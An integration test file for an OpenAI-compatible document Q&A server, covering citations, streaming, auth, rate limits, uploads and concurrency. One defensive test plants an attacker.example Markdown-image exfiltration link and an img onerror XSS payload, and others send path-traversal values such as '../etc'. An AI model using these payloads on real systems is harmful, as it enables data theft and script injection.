"""`qa serve` through real clients: the `openai` SDK (streaming and not), httpx, over loopback HTTP."""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import openai
import pytest
from api_server import KEY, OTHER_KEY, api_env, qa_serve, seeds_copy
from click.testing import CliRunner
from conftest import SEED_FILE
from fake_openai import FakeOpenAI, Reply, serve
from markdown_it import MarkdownIt

from qa import Engine, Settings
from qa.cli import main

pytestmark = pytest.mark.integration

QUESTION = "What is Mark Sedwill's job?"
OFF_TOPIC = "What is the boiling point of liquid nitrogen in kelvin?"
SEED_TEXT = SEED_FILE.read_text(encoding="utf-8")


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
    """`qa serve` with two API keys over its own copy of the seeds, indexed once for the module."""
    root = tmp_path_factory.mktemp("api")
    seeds = seeds_copy(root)
    data = root / ".qa"
    engine = Engine(Settings(data_dir=data, seeds_dir=seeds, _env_file=None))
    engine.ingest(seeds)
    env = api_env(data, seeds, QA_API_KEYS=f"{KEY}, {OTHER_KEY}", QA_API_MAX_BODY_KB="64")
    with qa_serve(env, log=root / "serve.log") as url:
        yield {"url": url, "engine": engine, "seeds": seeds, "data": data}


@pytest.fixture
def client(served: dict[str, Any]) -> openai.OpenAI:
    return openai.OpenAI(base_url=served["url"] + "/v1", api_key=KEY, max_retries=0, timeout=60)


def auth(key: str = KEY) -> dict[str, str]:
    return {"Authorization": f"Bearer {key}"}


# -- chat completions through the openai client ------------------------------------------------------


def test_openai_client_gets_the_answer_with_citations_and_sources(client: openai.OpenAI) -> None:
    reply = client.chat.completions.create(model="qa", messages=[{"role": "user", "content": QUESTION}])
    message = reply.choices[0].message
    assert "national security adviser" in message.content
    assert "[1]" in message.content
    assert "**Sources**" in message.content
    assert "000\\_da55755936a874b9.txt, paragraph 6" in message.content  # file names are Markdown-escaped
    extra = message.model_extra or {}
    assert extra["abstained"] is False and extra["grounded"] is True
    citation = extra["citations"][0]
    assert {"n", "source", "title", "paragraph", "start", "end", "quote", "score", "chunk_id", "passage"} <= set(citation)
    assert SEED_TEXT[citation["start"] : citation["end"]] == citation["quote"]
    assert reply.usage is not None and reply.usage.prompt_tokens > 0 and reply.usage.completion_tokens > 0
    assert reply.usage.total_tokens == reply.usage.prompt_tokens + reply.usage.completion_tokens
    assert reply.model == "qa" and reply.choices[0].finish_reason == "stop"


def test_streamed_reply_adds_up_to_the_same_content_and_ends_with_done(client: openai.OpenAI, served: dict[str, Any]) -> None:
    whole = client.chat.completions.create(model="qa", messages=[{"role": "user", "content": QUESTION}])
    chunks = list(client.chat.completions.create(model="qa", messages=[{"role": "user", "content": QUESTION}], stream=True))
    text = "".join(c.choices[0].delta.content or "" for c in chunks if c.choices)
    assert text == whole.choices[0].message.content
    assert chunks[-1].choices[0].finish_reason == "stop"
    assert chunks[-1].usage is not None and chunks[-1].usage.total_tokens > 0
    cited = [c for c in chunks if c.choices and (c.choices[0].delta.model_extra or {}).get("citations")]
    assert cited and cited[0].choices[0].delta.model_extra["citations"][0]["quote"] in SEED_TEXT
    raw = httpx.post(
        served["url"] + "/v1/chat/completions", headers=auth(),
        json={"model": "qa", "stream": True, "messages": [{"role": "user", "content": QUESTION}]}, timeout=60,
    )
    assert raw.headers["content-type"].startswith("text/event-stream")
    events = [line for line in raw.text.split("\n\n") if line.strip()]
    assert all(e.startswith("data: ") for e in events)
    assert events[-1] == "data: [DONE]"
    assert json.loads(events[0][6:])["object"] == "chat.completion.chunk"


def test_a_question_the_documents_dont_answer_is_an_ordinary_reply_flagged_abstained(client: openai.OpenAI) -> None:
    reply = client.chat.completions.create(model="qa", messages=[{"role": "user", "content": OFF_TOPIC}])
    message = reply.choices[0].message
    assert message.model_extra["abstained"] is True
    assert message.model_extra["citations"] == []
    assert "don't say" in message.content and "Sources" not in message.content
    assert reply.choices[0].finish_reason == "stop"


def test_earlier_messages_are_the_conversation_history(client: openai.OpenAI, served: dict[str, Any]) -> None:
    first = served["engine"].ask(QUESTION)
    history = [{"role": "user", "content": QUESTION}, {"role": "assistant", "content": first.text}]
    expected = served["engine"].ask("How did he sum it up?", history)
    reply = client.chat.completions.create(
        model="qa", messages=[{"role": "system", "content": "Be brief."}, *history, {"role": "user", "content": "How did he sum it up?"}],
    )
    assert reply.choices[0].message.model_extra["citations"] == [c.to_dict() for c in expected.citations]


def test_models_lists_the_collections(client: openai.OpenAI) -> None:
    assert "qa" in [m.id for m in client.models.list()]


def test_an_unknown_model_is_404_naming_the_collections(client: openai.OpenAI) -> None:
    with pytest.raises(openai.NotFoundError) as caught:
        client.chat.completions.create(model="gpt-4o", messages=[{"role": "user", "content": QUESTION}])
    assert "No collection 'gpt-4o'" in caught.value.message and "qa" in caught.value.message
    assert caught.value.code == "model_not_found"


# -- auth, limits, errors -------------------------------------------------------------------------


def test_a_wrong_or_missing_key_is_refused_with_401(served: dict[str, Any]) -> None:
    bad = openai.OpenAI(base_url=served["url"] + "/v1", api_key="not-the-key", max_retries=0)
    with pytest.raises(openai.AuthenticationError) as caught:
        bad.chat.completions.create(model="qa", messages=[{"role": "user", "content": QUESTION}])
    assert caught.value.code == "invalid_api_key"
    with pytest.raises(openai.AuthenticationError):
        bad.models.list()
    missing = httpx.post(served["url"] + "/v1/ask", json={"question": QUESTION})
    assert missing.status_code == 401
    assert missing.json()["error"]["message"].startswith("Missing API key")
    assert httpx.get(served["url"] + "/v1/documents", headers=auth(KEY[:-1])).status_code == 401
    # the second configured key works too
    assert httpx.post(served["url"] + "/v1/ask", json={"question": QUESTION}, headers=auth(OTHER_KEY), timeout=60).status_code == 200


def test_an_over_long_question_gets_413(client: openai.OpenAI) -> None:
    with pytest.raises(openai.APIStatusError) as caught:
        client.chat.completions.create(model="qa", messages=[{"role": "user", "content": "why " * 600}])
    assert caught.value.status_code == 413
    assert "too long" in caught.value.message


def test_an_over_large_body_gets_413_before_it_is_read(served: dict[str, Any]) -> None:
    history = [{"role": "user", "content": "x" * 1000}] * 100  # ~100 kB, over QA_API_MAX_BODY_KB=64
    reply = httpx.post(served["url"] + "/v1/ask", headers=auth(), json={"question": QUESTION, "history": history})
    assert reply.status_code == 413
    assert reply.json()["error"]["code"] == "request_too_large"

    def chunks() -> Iterator[bytes]:  # no Content-Length: counted as it arrives
        yield b'{"question": "' + b"y" * 40_000
        yield b"z" * 40_000 + b'"}'

    streamed = httpx.post(served["url"] + "/v1/ask", headers={**auth(), "content-type": "application/json"}, content=chunks())
    assert streamed.status_code == 413


def test_bad_requests_get_openai_shaped_json_errors_never_a_traceback(served: dict[str, Any]) -> None:
    url = served["url"]
    cases = [
        httpx.post(url + "/v1/chat/completions", headers={**auth(), "content-type": "application/json"}, content=b"{not json"),
        httpx.post(url + "/v1/chat/completions", headers=auth(), json={"model": "qa", "messages": []}),
        httpx.post(url + "/v1/chat/completions", headers=auth(), json={"messages": [{"role": "assistant", "content": "hi"}]}),
        httpx.post(url + "/v1/ask", headers=auth(), json={"question": "   "}),
        httpx.post(url + "/v1/ask", headers=auth(), json={"question": QUESTION, "collection": "../etc"}),
        httpx.get(url + "/v1/nothing-here", headers=auth()),
    ]
    assert [c.status_code for c in cases] == [400, 400, 400, 400, 400, 404]
    for reply in cases:
        error = reply.json()["error"]
        assert set(error) == {"message", "type", "param", "code"}
        assert error["message"] and "Traceback" not in reply.text


def test_ask_returns_the_answer_dict(served: dict[str, Any]) -> None:
    reply = httpx.post(served["url"] + "/v1/ask", headers=auth(), json={"question": QUESTION, "k": 3}, timeout=60)
    assert reply.status_code == 200
    data = reply.json()
    expected = served["engine"].ask(QUESTION, k=3).to_dict()
    assert data["text"] == expected["text"] and data["citations"] == expected["citations"]
    assert set(data) == set(expected)


def test_healthz_metrics_and_docs(served: dict[str, Any], client: openai.OpenAI) -> None:
    client.chat.completions.create(model="qa", messages=[{"role": "user", "content": OFF_TOPIC}])
    health = httpx.get(served["url"] + "/healthz")
    assert health.status_code == 200 and health.json()["chunks"] == 7
    metrics = httpx.get(served["url"] + "/metrics").text
    assert 'qa_requests_total{method="POST",path="/v1/chat/completions",status="200"}' in metrics
    assert 'qa_request_duration_seconds_bucket{path="/v1/chat/completions",le="+Inf"}' in metrics
    abstentions = next(line for line in metrics.splitlines() if line.startswith("qa_abstentions_total "))
    assert int(abstentions.split()[1]) >= 1
    assert "qa_llm_fallbacks_total 0" in metrics
    spec = httpx.get(served["url"] + "/openapi.json").json()
    assert {"/v1/chat/completions", "/v1/ask", "/v1/documents", "/v1/documents:reindex", "/healthz"} <= set(spec["paths"])
    assert httpx.get(served["url"] + "/docs").status_code == 200


def test_docs_page_loads_everything_from_qa_itself_and_works_offline(served: dict[str, Any]) -> None:
    import re
    from urllib.parse import urlparse

    from ui_server import chromium

    page_html = httpx.get(served["url"] + "/docs").text
    assets = re.findall(r"""(?:src|href)=["']([^"']+)["']""", page_html) + re.findall(r"""url: ?["']([^"']+)["']""", page_html)
    assert len(assets) >= 4, page_html  # script, style, icon, the OpenAPI document
    for asset in assets:
        assert asset.startswith("/") and not asset.startswith("//"), f"/docs loads {asset} from another host"
        reply = httpx.get(served["url"] + asset)
        assert reply.status_code == 200 and len(reply.content) > 1000, asset
    # A real browser with every request off this machine refused still draws the operations.
    outside: list[str] = []

    def only_loopback(route: Any) -> None:
        if urlparse(route.request.url).hostname == "127.0.0.1":
            route.continue_()
        else:
            outside.append(route.request.url)
            route.abort()

    with chromium() as browser:
        page = browser.new_page()
        page.route("**/*", only_loopback)
        page.goto(served["url"] + "/docs")
        page.locator(".swagger-ui .opblock-summary-path").first.wait_for(timeout=60_000)
        paths = page.locator(".swagger-ui .opblock-summary-path").all_inner_texts()
        assert any("/v1/chat/completions" in p for p in paths), paths
        assert page.locator(".swagger-ui .info .title").inner_text().startswith("qa")
    assert outside == []


# -- documents through httpx ----------------------------------------------------------------------


def test_documents_list_upload_ask_delete(served: dict[str, Any], client: openai.OpenAI) -> None:
    url, headers = served["url"], auth()
    listed = httpx.get(url + "/v1/documents", headers=headers).json()
    seed = next(d for d in listed["data"] if d["id"] == SEED_FILE.name)
    assert seed["chunks"] == 7 and seed["indexed_at"].startswith("20")

    note = "# Lunar base\n\nThe lunar base Artemis Camp is run by commander Ilse Varga since 2031.\n"
    added = httpx.post(url + "/v1/documents", headers=headers, files={"file": ("lunar base.md", note.encode(), "text/markdown")}, timeout=60)
    assert added.status_code == 201, added.text
    assert added.json()["id"] == "lunar_base.md" and added.json()["status"] == "added"
    assert (served["seeds"] / "lunar_base.md").read_text() == note
    reply = client.chat.completions.create(model="qa", messages=[{"role": "user", "content": "Who runs the lunar base Artemis Camp?"}])
    assert "Ilse Varga" in reply.choices[0].message.content
    assert reply.choices[0].message.model_extra["citations"][0]["source"] == "lunar_base.md"
    again = httpx.post(url + "/v1/documents", headers=headers, files={"file": ("lunar base.md", note.encode())}, timeout=60)
    assert again.json()["status"] == "unchanged"

    ids = [d["id"] for d in httpx.get(url + "/v1/documents", headers=headers).json()["data"]]
    assert ids == sorted([SEED_FILE.name, "lunar_base.md"])
    gone = httpx.delete(url + "/v1/documents/lunar_base.md", headers=headers)
    assert gone.status_code == 200 and gone.json()["file_deleted"] is True and gone.json()["chunks_deleted"] >= 1
    assert not (served["seeds"] / "lunar_base.md").exists()
    assert httpx.delete(url + "/v1/documents/lunar_base.md", headers=headers).status_code == 404
    after = client.chat.completions.create(model="qa", messages=[{"role": "user", "content": "Who runs the lunar base Artemis Camp?"}])
    assert "Ilse Varga" not in after.choices[0].message.content


def test_uploads_are_refused_by_type_and_size_with_a_reason(served: dict[str, Any]) -> None:
    url, headers = served["url"], auth()
    exe = httpx.post(url + "/v1/documents", headers=headers, files={"file": ("tool.exe", b"MZ\x90\x00")})
    assert exe.status_code == 415 and "can be added" in exe.json()["error"]["message"]
    empty = httpx.post(url + "/v1/documents", headers=headers, files={"file": ("old.txt", b"  \n")})
    assert empty.status_code == 400 and empty.json()["error"]["message"] == "old.txt: the file is empty."
    broken = httpx.post(url + "/v1/documents", headers=headers, files={"file": ("scan.pdf", b"%PDF-1.4 not really")})
    assert broken.status_code == 400 and broken.json()["error"]["message"].startswith("scan.pdf: ")
    big = httpx.post(url + "/v1/documents", headers=headers, files={"file": ("big.txt", b"word " * 4_200_000)}, timeout=60)
    assert big.status_code == 413
    assert not any((served["seeds"] / name).exists() for name in ("old.txt", "scan.pdf", "big.txt"))


def test_reindex_streams_progress_then_a_report(served: dict[str, Any]) -> None:
    url, headers = served["url"], auth()
    (served["seeds"] / "added-on-disk.txt").write_text("The harbour ferry to Skye leaves at dawn. " * 60, encoding="utf-8")
    try:
        with httpx.stream("POST", url + "/v1/documents:reindex", headers=headers, json={"stream": True}, timeout=120) as reply:
            assert reply.headers["content-type"].startswith("application/x-ndjson")
            events = [json.loads(line) for line in reply.iter_lines() if line.strip()]
        kinds = [e["event"] for e in events]
        assert kinds[0] == "folder" and kinds[-1] == "done" and events[-1]["ok"] is True
        progress = [e for e in events if e["event"] == "progress"]
        assert progress and progress[-1]["sentences_done"] == progress[-1]["sentences_total"]
        report = next(e for e in events if e["event"] == "indexed")["report"]
        assert report["added"] == ["added-on-disk.txt"]
        plain = httpx.post(url + "/v1/documents:reindex", headers=headers, json={}, timeout=120).json()
        assert plain["ok"] is True and plain["folders"][0]["report"]["unchanged"]
        outside = httpx.post(url + "/v1/documents:reindex", headers=headers, json={"folder": "/etc"})
        assert outside.status_code == 400 and outside.json()["error"]["code"] == "unknown_folder"
    finally:
        (served["seeds"] / "added-on-disk.txt").unlink()
        httpx.post(url + "/v1/documents:reindex", headers=headers, json={}, timeout=120)


def test_document_text_cannot_become_markdown_links_or_html(served: dict[str, Any], client: openai.OpenAI) -> None:
    hostile = "The vault code word is ![pixel](http://attacker.example/x.png?leak=1) <img src=x onerror=alert(1)> swordfish.\n"
    httpx.post(served["url"] + "/v1/documents", headers=auth(), files={"file": ("vault.txt", hostile.encode())}, timeout=60)
    try:
        reply = client.chat.completions.create(model="qa", messages=[{"role": "user", "content": "What is the vault code word?"}])
        content = reply.choices[0].message.content
        html = MarkdownIt("commonmark", {"html": True}).render(content)  # as a chat client renders the reply
        assert "swordfish" in html
        assert "<img" not in html and "<a " not in html
        assert "![pixel](http://attacker.example/x.png?leak=1) &lt;img src=x" in html  # shown as the text it is
    finally:
        httpx.delete(served["url"] + "/v1/documents/vault.txt", headers=auth())


# -- binding, concurrency limit, LLM mode ---------------------------------------------------------


def test_serve_refuses_a_public_address_without_keys() -> None:
    result = CliRunner().invoke(main, ["serve", "--host", "0.0.0.0", "--port", "1"])
    assert result.exit_code == 1
    assert "Refusing to serve on 0.0.0.0 without API keys" in result.output
    assert "QA_API_KEYS" in result.output


def test_serve_on_a_taken_port_is_one_line() -> None:
    import socket

    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen()
        port = taken.getsockname()[1]
        result = CliRunner().invoke(main, ["serve", "--port", str(port)])
    assert result.exit_code == 1
    assert result.output.strip() == f"Error: Can't serve on 127.0.0.1:{port} (Address already in use). Stop the other server or pass --port."


@pytest.fixture(scope="module")
def slow_llm() -> Iterator[FakeOpenAI]:
    yield from serve()


def test_more_questions_than_slots_get_429_at_once_never_a_hang(
    served: dict[str, Any], slow_llm: FakeOpenAI, tmp_path: Path
) -> None:
    slow_llm.reply(Reply(text="Mark Sedwill is Britain's national security adviser [1]."))
    env = api_env(
        served["data"], served["seeds"], QA_LLM_BASE_URL=slow_llm.base_url, QA_LLM_MODEL="fake-model",
        QA_LLM_RETRIES="0", QA_API_CONCURRENCY="1", QA_API_QUEUE="0",
    )
    with qa_serve(env, log=tmp_path / "serve.log") as url:
        client = openai.OpenAI(base_url=url + "/v1", api_key="unused", max_retries=0, timeout=60)
        client.chat.completions.create(model="qa", messages=[{"role": "user", "content": QUESTION}])  # loads the LLM client
        slow_llm.reply(Reply(text="Mark Sedwill is Britain's national security adviser [1].", delay=2.0))  # holds the slot
        results: list[Any] = []
        together = threading.Barrier(3)

        def ask() -> None:
            # A client each: requests sharing one httpx pool can go out one after another.
            own = openai.OpenAI(base_url=url + "/v1", api_key="unused", max_retries=0, timeout=60)
            together.wait()
            try:
                results.append(own.chat.completions.create(model="qa", messages=[{"role": "user", "content": QUESTION}]))
            except openai.APIStatusError as exc:
                results.append(exc)

        threads = [threading.Thread(target=ask) for _ in range(3)]
        for t in threads:
            t.start()
        for t in threads:
            t.join(timeout=60)
        answered = [r for r in results if not isinstance(r, Exception)]
        refused = [r for r in results if isinstance(r, openai.RateLimitError)]
        assert len(answered) == 1 and len(refused) == 2, [
            (r.choices[0].message.model_extra, r.created) if not isinstance(r, Exception) else repr(r) for r in results]
        assert refused[0].response.headers["retry-after"] == "1"
        assert "Mark Sedwill is Britain's national security adviser [1]." in answered[0].choices[0].message.content
        assert answered[0].choices[0].message.model_extra["mode"] == "llm:fake-model"
        # the slot is free again afterwards; a model failure falls back and is counted
        slow_llm.reply(Reply(status=500))
        fallback = client.chat.completions.create(model="qa", messages=[{"role": "user", "content": QUESTION}], stream=True)
        text = "".join(c.choices[0].delta.content or "" for c in fallback if c.choices)
        assert "national security adviser" in text and "language model is unavailable" in text
        metrics = httpx.get(url + "/metrics").text
        assert "qa_llm_fallbacks_total 1" in metrics
        assert 'qa_rejected_total{status="429"} 2' in metrics
        # the model's text streams in small pieces; markers split across pieces still arrive whole
        slow_llm.reply(Reply(text="He is the *national security adviser* [1], per <b>Reuters</b> [1].", chunk_chars=2))
        pieces = [c.choices[0].delta.content or "" for c in client.chat.completions.create(
            model="qa", messages=[{"role": "user", "content": QUESTION}], stream=True) if c.choices]
        whole = client.chat.completions.create(model="qa", messages=[{"role": "user", "content": QUESTION}])
        assert "".join(pieces) == whole.choices[0].message.content
        assert whole.choices[0].message.content.startswith("He is the \\*national security adviser\\* [1], per \\<b\\>Reuters\\</b\\> [1].")
        assert len([p for p in pieces if p]) > 10


def test_an_unreachable_chroma_server_is_a_503_with_the_fix_not_a_crash(tmp_path: Path) -> None:
    from conftest import free_port

    env = api_env(tmp_path / ".qa", tmp_path, QA_CHROMA_HOST="127.0.0.1", QA_CHROMA_PORT=str(free_port()))
    with qa_serve(env, healthy=False, log=tmp_path / "serve.log") as url:
        health = httpx.get(url + "/healthz")
        assert health.status_code == 503 and "Cannot reach the Chroma server" in health.json()["error"]
        client = openai.OpenAI(base_url=url + "/v1", api_key="unused", max_retries=0)
        with pytest.raises(openai.InternalServerError) as caught:
            client.chat.completions.create(model="qa", messages=[{"role": "user", "content": QUESTION}])
        assert caught.value.status_code == 503 and caught.value.code == "store_unavailable"
        assert "chroma run" in caught.value.message
    assert "Traceback" not in (tmp_path / "serve.log").read_text()


def test_each_key_has_its_own_rate_limit(served: dict[str, Any], tmp_path: Path) -> None:
    env = api_env(served["data"], served["seeds"], QA_API_KEYS=f"{KEY},{OTHER_KEY}", QA_API_RATE_PER_MINUTE="6",
                  QA_API_RATE_BURST="2")
    with qa_serve(env, log=tmp_path / "serve.log") as url:
        first = openai.OpenAI(base_url=url + "/v1", api_key=KEY, max_retries=0)
        first.models.list()
        first.models.list()
        with pytest.raises(openai.RateLimitError) as caught:
            first.models.list()
        assert caught.value.code == "rate_limited" and int(caught.value.response.headers["retry-after"]) >= 1
        second = openai.OpenAI(base_url=url + "/v1", api_key=OTHER_KEY, max_retries=0)
        assert "qa" in [m.id for m in second.models.list()]  # another client is not held back
        assert httpx.get(url + "/healthz").status_code == 200  # nor are health checks


def test_questions_are_answered_while_an_uploaded_document_is_being_indexed(served: dict[str, Any]) -> None:
    url, headers = served["url"], auth()
    # Many short paragraphs: seconds of embedding on 2 cores, during which the index keeps answering.
    body = "\n\n".join(
        f"Ledger entry {i} records {i * 3} crates of tin for the port of Amsel. It was signed by clerk {i % 17}."
        for i in range(600)
    ).encode()
    uploaded: list[int] = []
    uploading = threading.Thread(target=lambda: uploaded.append(httpx.post(
        url + "/v1/documents", headers=headers, files={"file": ("ledger.txt", body)}, timeout=300).status_code))
    uploading.start()
    during = 0
    while uploading.is_alive():
        reply = httpx.post(url + "/v1/ask", headers=headers, json={"question": QUESTION}, timeout=300)
        assert reply.status_code == 200 and "national security adviser" in reply.json()["text"]
        during += uploading.is_alive()
    uploading.join()
    assert uploaded == [201]
    assert during >= 3, during  # a question waiting for the whole upload would count at most one
    reply = httpx.post(url + "/v1/ask", headers=headers, json={"question": "How many crates of tin does ledger entry 500 record?"})
    assert "1500 crates of tin" in reply.json()["text"]
    assert httpx.delete(url + "/v1/documents/ledger.txt", headers=headers, timeout=120).status_code == 200


def test_questions_during_uploads_and_deletes_all_get_answers(served: dict[str, Any]) -> None:
    url, headers = served["url"], auth()
    statuses: list[int] = []
    texts: list[str] = []

    def keep_asking() -> None:
        for _ in range(6):
            reply = httpx.post(url + "/v1/ask", headers=headers, json={"question": QUESTION}, timeout=120)
            statuses.append(reply.status_code)
            texts.append(reply.json().get("text", ""))

    askers = [threading.Thread(target=keep_asking) for _ in range(4)]
    for t in askers:
        t.start()
    for i in range(3):
        body = f"Depot {i} of the tram network opens at {6 + i} in the morning.\n".encode()
        assert httpx.post(url + "/v1/documents", headers=headers, files={"file": (f"depot{i}.txt", body)}, timeout=120).status_code == 201
    for i in range(3):
        assert httpx.delete(url + f"/v1/documents/depot{i}.txt", headers=headers, timeout=120).status_code == 200
    for t in askers:
        t.join(timeout=300)
    assert statuses == [200] * 24
    assert all("national security adviser" in text for text in texts)
